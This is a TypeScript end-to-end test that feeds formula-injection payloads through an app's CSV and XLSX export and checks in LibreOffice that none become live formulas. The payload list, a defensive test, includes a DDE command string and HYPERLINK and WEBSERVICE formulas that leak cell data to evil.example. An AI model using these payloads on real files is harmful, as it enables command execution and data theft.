import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { aRow, pagesOf, startAnsweringServer } from '#e2e/hostile-server/answering-server.ts';
import { withApp } from './with-app.ts';

/**
 * `npm run sheets`: the app exports a catalog in which every name is an attack, and LibreOffice opens the files, splitting CSV lines as
 * each locale does. Exits with 1 if there is a formula. The same names without the app's guard verify that formulas are counted.
 */
const run = promisify(execFile);
/** Character codes, as LibreOffice's CSV filter takes them. */
const separators = { comma: 44, semicolon: 59, tab: 9 } as const;
type Separator = keyof typeof separators;

/** Every known way to start a formula, and to hide the start. */
const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const prefixes = [
  ...['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', "'", "''", '"', '""'],
  ...['a;', 'a,', 'a\t', 'a\n', 'a;"', 'a";'],
];
const bodies = [
  ...['1+1', 'SUM(1,2)', '1+1;=2+2', "cmd|'/C calc'!A0", 'WEBSERVICE("https://evil.example")'],
  'HYPERLINK("https://evil.example/?leak="&A1,"click")',
];
const names = [
  ...prefixes.flatMap((prefix) => starts.flatMap((start) => bodies.map((body) => prefix + start + body))),
  ...['<f>1+1</f>', '&lt;f&gt;1', '_x003D_1+1', ']]><f>1</f>', '{=1+1}', '1E5', '0x10', '2026-11-21'],
  ...['TRUE', '#REF!', '★ Karambit'],
];
const rows = names.map((name, index) => ({
  ...aRow,
  id: index + 1,
  name,
  market_hash_name: name,
  price: index % 3 === 0 ? name : aRow.price,
}));

const version = await run('soffice', ['--version']).catch(() => null);
if (version === null) {
  console.error('LibreOffice Calc is not installed. On Debian and Ubuntu: apt-get install libreoffice-calc');
  process.exit(1);
}
console.log(version.stdout.trim());
const folder = await mkdtemp(path.join(tmpdir(), 'item-catalog-sheets-'));
try {
  const { csv, xlsx } = await exportedFiles();
  const isXlsxInert = await isInert('XLSX', xlsx);
  const csvResults: boolean[] = [];
  for (const separator of ['comma', 'semicolon', 'tab'] as const)
    csvResults.push(await isInert(`CSV, split at ${separator}`, csv, separator));
  const unguarded = path.join(folder, 'unguarded.csv');
  await writeFile(unguarded, names.map((name) => `"${name.replaceAll('"', '""')}"\r\n`).join(''));
  const control = await readInSpreadsheet(unguarded, 'comma');
  console.log(`the same names without the guard: ${control.formulas} formulas`);
  const passed = control.formulas > 0 && isXlsxInert && csvResults.every((isGood) => isGood);
  console.log(passed ? 'No formulas.' : 'FAILED');
  process.exitCode = passed ? 0 : 1;
} finally {
  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
}

async function isInert(what: string, file: string, separator?: Separator): Promise<boolean> {
  const found = await readInSpreadsheet(file, separator);
  console.log(`${what}: ${found.rows} rows, ${found.formulas} formulas`);
  // Split at another separator than its own, a line break inside quotes may end a line.
  const hasAllRows = separator === 'semicolon' || separator === 'tab' || found.rows === names.length + 1;
  return found.formulas === 0 && hasAllRows;
}

/** Exported in the window, as a user does it. */
async function exportedFiles(): Promise<{ csv: string; xlsx: string }> {
  const catalog = await startAnsweringServer(pagesOf(rows));
  try {
    return await withApp({}, async (app) => {
      const { exports } = app;
      const exportAll = async (format: 'CSV' | 'Excel', name: string) => {
        const file = path.join(folder, name);
        await app.answerDialog({ kind: 'save', path: file });
        await exports.start('All matches', format);
        await exports.title.getByText(/^Exported [\d,]+ rows$/).waitFor();
        await exports.action('Dismiss').click();
        return file;
      };
      await app.form.fill({
        name: 'Hostile',
        baseUrl: catalog.baseUrl,
        token: 'a-token-of-the-sheets-alone',
      });
      await app.table.row(1).waitFor();
      return { csv: await exportAll('CSV', 'a.csv'), xlsx: await exportAll('Excel', 'b.xlsx') };
    });
  } finally {
    await catalog.close();
  }
}

/** Opens a file as a double click would, and counts formulas and rows that aren't empty. */
async function readInSpreadsheet(
  file: string,
  separator?: Separator,
): Promise<{ formulas: number; rows: number }> {
  const filter =
    separator === undefined ? [] : [`--infilter=CSV:${separators[separator]},34,76,1,,0,false,true`];
  const profile = pathToFileURL(path.join(folder, 'profile')).href;
  const args = [`-env:UserInstallation=${profile}`, '--headless', ...filter, '--convert-to', 'fods'];
  await run('soffice', [...args, '--outdir', folder, file], { timeout: 120_000 });
  const flat = await readFile(path.join(folder, `${path.parse(file).name}.fods`), 'utf8');
  let filledRows = 0;
  for (const [, attributes = '', cells = ''] of flat.matchAll(
    /<table:table-row([^>]*)>(.*?)<\/table:table-row>/gs,
  )) {
    // Equal rows next to each other are one element.
    if (cells.includes('office:value-type'))
      filledRows += Number(/number-rows-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
  }
  return { formulas: flat.match(/table:formula=/g)?.length ?? 0, rows: filledRows };
}
